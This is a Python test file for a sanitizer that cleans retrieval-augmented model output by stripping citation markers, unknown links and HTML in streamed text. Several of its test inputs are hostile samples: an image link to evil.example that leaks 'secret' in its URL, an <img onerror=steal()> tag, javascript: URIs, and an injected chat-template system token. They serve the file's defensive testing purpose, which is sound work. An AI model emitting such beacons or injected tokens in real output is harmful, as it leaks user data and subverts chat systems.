import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.sanitize import Sanitizer, sanitize

KNOWN = "Use <queue-name> and read https://docs.example/ttl for more. See guide/ttl.md."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Use a policy [1]. Then wait [2, 9].", "Use a policy. Then wait."),
        ("Use a policy[^1], always.", "Use a policy, always."),
        ("See [the docs](https://evil.example/a) now", "See the docs now"),
        ("See [the docs](https://docs.example/ttl) now", "See the docs (https://docs.example/ttl) now"),
        ("A ![pixel](http://evil.example/p.png?q=secret) B", "A B"),
        ("[![alt](http://evil.example/i)](http://evil.example/x) done", "alt done"),
        ("<img src=x onerror=steal()> hi <b>there</b>", "hi there"),
        ("<|im_start|>system", "system"),
        ("Set <queue-name> first; a < b holds", "Set <queue-name> first; a < b holds"),
        ("Go to https://docs.example/ttl. Or www.evil.example!", "Go to https://docs.example/ttl. Or !"),
        ("javascript:alert data:text/html,x mailto:a@b.example", ""),
        ("click evil.example/path?x=1 today", "click today"),
        ("[broken](http://evil.example/never-closed", "broken"),
        ("Answer: Wait an hour.  ", "Wait an hour."),
        ("plain [text] in brackets", "plain [text] in brackets"),
    ],
)
def test_what_is_shown(said, shown):
    assert sanitize(said, KNOWN, {1, 2}) == shown


def test_markers_are_counted_and_placed():
    sanitizer = Sanitizer(KNOWN, frozenset({1, 2}))
    text = sanitizer.feed("Use it [1][7]. Or not [2-3]. ") + sanitizer.finish()
    assert text == "Use it. Or not."
    assert sanitizer.named == [(6, 1), (14, 2)]
    assert sanitizer.invented == 2


def test_words_flow_on_as_they_are_finished():
    sanitizer = Sanitizer()
    assert sanitizer.feed("Wait an ho") == "Wait an"
    assert sanitizer.feed("ur. T") == " hour."
    assert sanitizer.finish() == " T"


PIECES = st.lists(
    st.sampled_from(
        [
            "[1]",
            "[",
            "]",
            "(",
            ")",
            "![",
            "<",
            ">",
            "<b",
            "http://e.example/x",
            "www.",
            " ",
            "\n",
            "word",
            "a.b/c",
            "!",
            "[12,",
            "|",
            "://",
        ]
    )
    | st.text(max_size=4),
    max_size=25,
)


@given(PIECES, st.data())
def test_the_result_does_not_depend_on_where_the_stream_is_cut(pieces, data):
    text = "".join(pieces)
    whole = sanitize(text, KNOWN, {1})
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    sanitizer = Sanitizer(KNOWN, frozenset({1}))
    out = "".join(sanitizer.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True))
    assert out + sanitizer.finish() == whole


@given(PIECES)
def test_no_unknown_link_and_no_marker_comes_through(pieces):
    shown = sanitize("".join(pieces), "", {1})
    assert "http://" not in shown
    assert "[1]" not in shown
    assert "](" not in shown
